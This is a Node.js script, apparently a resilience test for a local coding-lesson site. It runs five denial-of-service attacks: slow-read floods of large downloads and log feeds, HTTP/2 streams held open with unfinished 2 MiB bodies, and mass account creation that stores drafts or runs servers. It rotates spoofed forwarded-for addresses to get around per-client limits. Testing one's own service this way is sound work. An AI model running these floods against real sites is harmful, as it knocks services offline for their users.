// What a visitor without any account can do to end the site, in a process that goes on until it is ended: the name of
// an attack, the site's port, and how many clients.

import { connect } from "node:http2";
import { request } from "node:http";
import { setTimeout as wait } from "node:timers/promises";
import { Learner } from "./learner.js";

const LESSON = "/lessons/a-websocket-in-html";
const HOST = "hxlab.localhost";
/** As many addresses the attackers have; each may have as much as one address may. */
const ADDRESSES = 20;
const MIB = 1024 * 1024;
// One for all of them: what counts is what the site keeps, not what an attacker does.
const HALF_A_BODY = Buffer.alloc(MIB, "x");
const SERVER = "export default { fetch: () => new Response('hello') };";

/** Asks and never reads what comes. */
function unread({ server: { port }, from }, path, cookie) {
  const headers = { host: `${HOST}:${port}`, "x-forwarded-for": from, cookie };
  const asked = request({ host: "127.0.0.1", port, path, headers, agent: false });
  asked.on("response", (answer) => answer.pause());
  asked.on("error", () => {});
  asked.end();
  return asked;
}

async function again(attack) {
  for (;;) await attack().catch(() => wait(10));
}

/** A learner with many large versions has all of it sent, many times, and reads none of it. */
async function downloads(stage) {
  const learner = await Learner.enter(stage, LESSON);
  for (let count = 0; count < 100; count += 1) {
    const text = `// ${count}\n`.padEnd(200_000, "x");
    await learner.keep({ "server.js": text, "a.txt": text, "b.txt": text, "c.txt": text });
  }
  const ask = () => unread(stage, "/me/all.json", learner.cookie);
  Array.from({ length: 50 }, ask);
}

/** A server that logs much is watched by many who do not read. */
async function feeds(stage) {
  const learner = await Learner.enter(stage, LESSON);
  const loud = `for (let i = 0; i < 500; i += 1) console.log("x".repeat(4000)); ${SERVER}`;
  await learner.run({ "server.js": loud }).catch(() => {});
  const ask = () => unread(stage, `${LESSON}/live`, learner.cookie);
  Array.from({ length: 200 }, ask);
}

/** Bodies of 2 MiB on all the streams of an HTTP/2 connection, none of which comes to its end. */
async function bodies({ server: { port }, from }) {
  const head = {
    ":method": "POST",
    ":path": "/theme",
    ":authority": `${HOST}:${port}`,
    "x-forwarded-for": from,
    origin: `http://${HOST}:${port}`,
  };
  const open = new Set();
  let session;
  for (;;) {
    if (!session || session.destroyed) {
      session = connect(`http://127.0.0.1:${port}`);
      session.on("error", () => {});
    }
    while (open.size < 100 && !session.destroyed) {
      const stream = session.request({ ...head, "content-length": `${2 * MIB}` });
      open.add(stream);
      stream.on("error", () => {});
      stream.on("close", () => open.delete(stream));
      stream.on("response", () => stream.close());
      stream.write(HALF_A_BODY);
    }
    await wait(1000);
  }
}

/** A new learner each time, with as large a draft as may be. */
async function drafts(stage) {
  const files = { "a.txt": "x".repeat(250_000), "b.txt": "y".repeat(250_000) };
  await again(async () => {
    const learner = await Learner.enter(stage, LESSON);
    await learner
      .keep({ ...files, "server.js": `// ${Math.random()}` })
      .finally(() => learner.leave());
  });
}

/** A new learner each time, who runs a server. */
async function runs(stage) {
  await again(async () => {
    const learner = await Learner.enter(stage, LESSON);
    await learner.run({ "server.js": SERVER }).finally(() => learner.leave());
  });
}

const attacks = { downloads, feeds, bodies, drafts, runs };
const [name, port, clients] = process.argv.slice(2);
const server = { port: Number(port) };
// What the site refuses, it refuses.
const begin = (_, number) =>
  attacks[name]({ server, from: `198.51.100.${number % ADDRESSES}` }).catch(() => {});
await Promise.all(Array.from({ length: Number(clients) }, begin));
// Whoever waits for what is not read stays.
setInterval(() => {}, 1000);
